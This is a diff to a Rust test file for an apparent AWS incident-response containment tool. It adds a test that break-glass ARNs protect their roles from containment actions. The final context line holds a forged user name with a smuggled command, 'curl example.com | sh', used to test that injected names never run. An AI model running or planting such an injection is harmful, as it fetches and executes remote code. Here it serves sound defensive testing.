@@ -94,6 +94,62 @@ fn break_glass_service_linked_hub_foreign_and_nameless() {
 }
 
 #[test]
+fn a_session_on_the_break_glass_list_protects_its_role() {
+    for (entry, protected) in [
+        (
+            "arn:aws:sts::111122223333:assumed-role/Glass/me",
+            Some("arn:aws:iam::111122223333:role/Glass"),
+        ),
+        (
+            "arn:aws-cn:sts::*:assumed-role/Glass*/*",
+            Some("arn:aws-cn:iam::*:role/Glass*"),
+        ),
+        (
+            "arn:aws:iam::*:role/a/b/Glass",
+            Some("arn:aws:iam::*:role/a/b/Glass"),
+        ),
+        ("arn:aws:iam::*:user/*", Some("arn:aws:iam::*:user/*")),
+        (
+            "arn:aws:iam::111122223333:root",
+            Some("arn:aws:iam::111122223333:root"),
+        ),
+        ("arn:aws:*", Some("arn:aws:*")),
+        ("arn:aws:sts::111122223333:federated-user/me", None),
+        ("arn:aws:sts::111122223333:assumed-role/", None),
+        ("arn:aws:iam::111122223333:group/Admins", None),
+        ("arn:aws:s3:::bucket", None),
+        ("arn:aws:iam::111122223333", None),
+        ("role/Glass", None),
+        ("role/Glass*", None),
+        ("x:aws:iam::111122223333:role/Glass", None),
+        ("*", Some("*")),
+        ("", None),
+    ] {
+        let found = keyline_contain::protected_by(entry);
+        assert_eq!(found.as_deref(), protected, "{entry}");
+    }
+    check_refused(
+        session("cr-1", OURS, "Glass", "x"),
+        |ask| {
+            let me = format!("arn:aws:sts::{OURS}:assumed-role/Glass/me");
+            ask.estate.break_glass = vec![me];
+        },
+        Reason::Protected,
+        "as `arn:aws:sts::111122223333:assumed-role/Glass/me`",
+    );
+    let me = format!("arn:aws:sts::{OURS}:assumed-role/Glass/me");
+    let policy = keyline_contain::permissions::of_responder(
+        keyline_contain::action::Responder::ContainIam,
+        keyline_trail::partition::Partition::Aws,
+        &[],
+        &[me],
+    );
+    let denied = policy["Statement"].as_array().unwrap().last().unwrap();
+    let role = format!("arn:aws:iam::{OURS}:role/Glass");
+    assert_eq!(denied["Resource"], serde_json::json!([role]));
+}
+
+#[test]
 fn a_name_that_aws_never_gave_stands_in_no_command() {
     let forged = Credential {
         user_name: "a'; curl example.com | sh #".to_owned(),
